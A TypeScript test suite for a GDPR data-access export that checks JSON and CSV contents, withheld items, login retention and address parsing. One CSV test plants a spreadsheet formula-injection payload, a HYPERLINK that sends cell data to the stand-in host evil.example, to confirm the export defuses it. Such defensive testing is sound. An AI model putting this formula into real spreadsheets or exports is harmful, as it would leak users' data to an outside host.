import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Account } from '../../../sandbox/accounts/account';
import { accountData, LOGIN_RETENTION_MONTHS, postalAddress } from '../../../sandbox/accounts/data';
import { buildPackage } from '../../../sandbox/dsar/package';
import { csvColumns, packageJsonSchema, packageSchema } from '../../../sandbox/dsar/package-schema';
import type { DataCategory } from '../../../shared/api/dsar-workflow';
import type { Job } from '../../../shared/api/jobs';

const now = new Date('2026-11-27T12:00:00Z');
const account = (id: string, over: Partial<Account> = {}): Account => ({
  id,
  name: 'Jürgen Weiß',
  email: 'juergen.weiss@example.de',
  createdAt: '2019-03-01T09:00:00Z',
  locale: 'de',
  address: 'Lindenstraße 12, 10115 Berlin',
  birthDate: '1984-05-17',
  displayName: 'Jürgen',
  restricted: false,
  objections: [],
  erased: [],
  retained: [],
  ...over,
});

function packageJob(data: ReturnType<typeof accountData>): Job {
  return {
    id: 'job_pkg',
    version: 1,
    updatedAt: now.toISOString(),
    dsarId: 'dsr_test',
    kind: 'package',
    state: 'succeeded',
    progress: 1,
    step: null,
    error: null,
    result: {
      kind: 'package',
      categories: (Object.keys(data) as DataCategory[]).map((category) => ({
        category,
        count: data[category].length,
        items: data[category],
      })),
    },
  };
}

const text = (bytes: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);

/** An account id whose generated history has forum posts and support messages (the generator is seeded by id). */
function accountWith(categories: DataCategory[]): Account {
  for (let n = 0; n < 500; n++) {
    const candidate = account(`usr_${n}`);
    const data = accountData(candidate, now);
    if (categories.every((c) => data[c].length > 0)) return candidate;
  }
  throw new Error('no such account in 500 tries');
}

describe('the data copy (Art. 15(3), 20)', () => {
  it('holds each record with its actual fields, exactly those its schema documents', () => {
    const data = accountData(accountWith(['forum_posts', 'messages', 'submissions']), now);
    const files = unzipSync(buildPackage(packageJob(data), new Set(), 'Art. 15').zip);
    const schema = packageJsonSchema() as {
      $defs: Record<string, { properties: { items: { items: { properties: object; required: string[] } } } }>;
    };
    for (const category of Object.keys(data) as DataCategory[]) {
      const file = JSON.parse(text(files[`json/${category}.json`])) as { category: string; items: Record<string, unknown>[] };
      expect(file.category).toBe(category);
      const documented = Object.keys(schema.$defs[category].properties.items.items.properties);
      for (const item of file.items) expect(Object.keys(item).sort()).toEqual([...documented].sort());
      expect(schema.$defs[category].properties.items.items.required.sort()).toEqual([...documented].sort());
    }
    const posts = JSON.parse(text(files['json/forum_posts.json'])) as { items: { text: string; thread: string }[] };
    expect(posts.items[0].text.length).toBeGreaterThan(20);
    const messages = JSON.parse(text(files['json/messages.json'])) as { items: { text: string; answer: string }[] };
    expect(messages.items[0]).toMatchObject({ text: expect.any(String), answer: expect.any(String) });
    const [first] = (JSON.parse(text(files['json/account.json'])) as { items: { address: object }[] }).items;
    expect(first.address).toEqual({ street: 'Lindenstraße 12', postalCode: '10115', city: 'Berlin', country: 'DE' });
  });

  it('writes a CSV per category with flattened columns, numbers as numbers and no live formula', () => {
    const data = accountData(accountWith(['forum_posts']), now);
    data.forum_posts[0].fields.text = '=HYPERLINK("https://evil.example/?d="&E2,"Klick")';
    data.forum_posts[0].fields.thread = '＠SUM(1+1)';
    const files = unzipSync(buildPackage(packageJob(data), new Set(), 'Art. 15').zip);
    const posts = text(files['csv/forum_posts.csv']).split('\r\n');
    expect(posts[0]).toBe(`\uFEFF${csvColumns('forum_posts').join(';')}`);
    expect(posts[1]).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&E2,""Klick"")"`);
    expect(posts[1]).toContain("'＠SUM(1+1)");
    const account = text(files['csv/account.csv']).split('\r\n');
    expect(account[0]).toContain('address.street;address.postalCode;address.city;address.country');
    expect(account[1]).toContain('Lindenstraße 12;10115;Berlin;DE');
    const invoices = text(files['csv/invoices.csv']).split('\r\n');
    expect(invoices[1]).toMatch(/;\d+(\.\d+)?;\d+(\.\d+)?;\d+;EUR;/);
  });

  it('leaves out what the officer withheld and documents only the categories it contains', () => {
    const data = accountData(account('usr_withheld'), now);
    const withheld = data.login_history[0].id;
    const pkg = buildPackage(packageJob(data), new Set([withheld]), 'Art. 15');
    const files = unzipSync(pkg.zip);
    const logins = JSON.parse(text(files['json/login_history.json'])) as { items: { id: string }[] };
    expect(logins.items.map((i) => i.id)).not.toContain(withheld);
    expect(text(files['README.txt'])).toContain('Ausgenommen / withheld items: 1');
    expect(pkg.files).toContain('schema.json');
  });

  it("keeps the platform's own retention: no sign-in older than the 14 months of the records of processing", () => {
    const oldest = new Date(now);
    oldest.setUTCMonth(oldest.getUTCMonth() - LOGIN_RETENTION_MONTHS);
    for (let n = 0; n < 50; n++) {
      for (const login of accountData(account(`usr_r${n}`), now).login_history) {
        expect(Date.parse(String(login.fields.signedInAt))).toBeGreaterThanOrEqual(oldest.getTime());
        expect(Date.parse(String(login.fields.signedInAt))).toBeLessThanOrEqual(now.getTime());
      }
    }
    expect(packageSchema.login_history.de).toContain('14 Monate');
  });

  it('reads an address line into its parts, and keeps an unusual one whole', () => {
    expect(postalAddress('Am Markt 1a, 04109 Leipzig')).toEqual({
      street: 'Am Markt 1a',
      postalCode: '04109',
      city: 'Leipzig',
      country: 'DE',
    });
    expect(postalAddress('Postfach 12')).toEqual({ street: 'Postfach 12', postalCode: '', city: '', country: 'DE' });
    expect(postalAddress(null)).toBeNull();
  });
});
